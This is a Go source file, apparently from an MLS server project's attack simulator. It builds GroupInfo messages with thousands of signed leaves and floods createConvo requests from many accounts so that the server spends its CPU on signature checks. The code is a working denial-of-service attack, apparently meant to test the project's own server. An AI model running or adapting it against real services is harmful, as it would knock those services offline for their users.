package attack

import (
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"time"

	"github.com/bluesky-social/indigo/atproto/syntax"
	"golang.org/x/crypto/cryptobyte"

	"mlsd/clientsim/mlsclient"
	. "mlsd/clientsim/steps"
	"mlsd/clientsim/xrpc"
	"mlsd/mls"
)

// H1: a GroupInfo with thousands of leaves, each with a signature to verify.
func costly() []Attack {
	return []Attack{
		{"groupinfo", "H1", "one DID creates a convo with a GroupInfo of 4,800 signed leaves, again and again",
			costlyCreate(1)},
		{"groupinfo-many", "H1", "16 DIDs of 16 addresses do so", costlyCreate(16)},
	}
}

// Bounds of a costly GroupInfo by the server's rules for its roster.
const (
	leavesPerPerson = 48
	maxPeople       = 100
)

// costlyInfo makes a GroupInfo of a group in epoch 1 with many leaves. The first leaf has signed
// it. The leaves of each person follow each other.
func costlyInfo(group []byte, people []syntax.DID, leaves int) []byte {
	const suite = mls.CipherSuite(mlsclient.SuiteX25519)
	var nodes []byte
	var first ed25519.PrivateKey
	now := time.Now()
	for i := range leaves {
		public, key, _ := ed25519.GenerateKey(rand.Reader) // this never fails
		if i > 0 {
			nodes = append(nodes, 0) // a blank parent
		} else {
			first = key
		}
		leaf := build(func(b *cryptobyte.Builder) {
			vector(b, mlsclient.RandomBytes(32)) // nearly all strings of 32 bytes are public keys of X25519
			vector(b, public)
			b.AddUint16(uint16(mls.CredentialTypeBasic))
			vector(b, []byte(people[i*len(people)/leaves]))
			for _, list := range [][]byte{{0, 1}, {0, byte(suite)}, {}, {}, {0, 1}} {
				vector(b, list)
			}
			b.AddUint8(1) // made for a KeyPackage
			b.AddUint64(uint64(now.Add(-time.Hour).Unix()))
			b.AddUint64(uint64(now.Add(24 * time.Hour).Unix()))
			vector(b, nil)
		})
		nodes = append(append(nodes, 1, 1), signed(key, "LeafNodeTBS", leaf)...)
	}
	tree := build(func(b *cryptobyte.Builder) { vector(b, nodes) })
	parsed := Must(mls.ParseTree(suite, tree))
	info := build(func(b *cryptobyte.Builder) {
		b.AddUint16(uint16(mls.VersionMLS10))
		b.AddUint16(uint16(suite))
		vector(b, group)
		b.AddUint64(1)
		vector(b, parsed.Hash())
		vector(b, make([]byte, 32))
		vector(b, nil)
		vector(b, build(func(b *cryptobyte.Builder) {
			b.AddUint16(uint16(mls.ExtensionRatchetTree))
			vector(b, tree)
		}))
		vector(b, make([]byte, 32))
		b.AddUint32(0)
	})
	return build(func(b *cryptobyte.Builder) {
		b.AddUint16(uint16(mls.VersionMLS10))
		b.AddUint16(uint16(mls.WireFormatGroupInfo))
		b.AddBytes(signed(first, "GroupInfoTBS", info))
	})
}

// signed returns content and its signature by SignWithLabel (RFC 9420 §5.1.2).
func signed(key ed25519.PrivateKey, label string, content []byte) []byte {
	labelled := build(func(b *cryptobyte.Builder) {
		vector(b, []byte("MLS 1.0 "+label))
		vector(b, content)
	})
	return build(func(b *cryptobyte.Builder) {
		b.AddBytes(content)
		vector(b, ed25519.Sign(key, labelled))
	})
}

func build(f func(*cryptobyte.Builder)) []byte {
	b := cryptobyte.NewBuilder(nil)
	f(b)
	return b.BytesOrPanic()
}

// vector writes opaque<V> (RFC 9420 §2.1.2).
func vector(b *cryptobyte.Builder, content []byte) {
	switch n := len(content); {
	case n < 1<<6:
		b.AddUint8(uint8(n))
	case n < 1<<14:
		b.AddUint16(uint16(n) | 1<<14)
	default:
		b.AddUint32(uint32(n) | 2<<30)
	}
	b.AddBytes(content)
}

// leafOwners returns the attacker and as many other accounts as the leaves need. Nobody looks these
// accounts up.
func leafOwners(creator syntax.DID, leaves int) []syntax.DID {
	people := []syntax.DID{creator}
	for len(people) < min((leaves+leavesPerPerson-1)/leavesPerPerson, maxPeople) {
		people = append(people, unknownDID())
	}
	return people
}

// costlyCreate repeats createConvo, with four requests of each DID at one time. The group exists after
// the first request, so later requests store nothing. Each DID has an address of its own.
func costlyCreate(dids int) prepare {
	const requestsAtOnce = 4
	return func(_ context.Context, t *Target) *Prepared {
		accounts, clients, calls := t.accounts(dids), t.clients(dids), make([]xrpc.Call, dids)
		for i, who := range accounts {
			people, group := leafOwners(who.DID, t.Leaves), mlsclient.RandomBytes(16)
			calls[i] = xrpc.CreateCall(group, mlsclient.SuiteX25519, people[1:], &mlsclient.Staged{
				Epoch: 1, GroupInfo: costlyInfo(group, people, t.Leaves),
				Welcome: mlsclient.FakeWelcome(mlsclient.SuiteX25519, mlsclient.RandomBytes(32)),
			}, "")
		}
		return &Prepared{Run: func(ctx context.Context) {
			lanes := dids * requestsAtOnce
			Each(lanes, lanes, func(i int) {
				for ctx.Err() == nil {
					if _, err := t.once(ctx, clients[i%dids], accounts[i%dids], calls[i%dids]); err != nil {
						xrpc.Sleep(ctx, refusedPause)
					}
				}
			})
		}}
	}
}

// refusedPause is how long a lane of the attacker waits after a refusal. Otherwise the attacker
// would use up the processor that it shares with the server.
const refusedPause = 50 * time.Millisecond
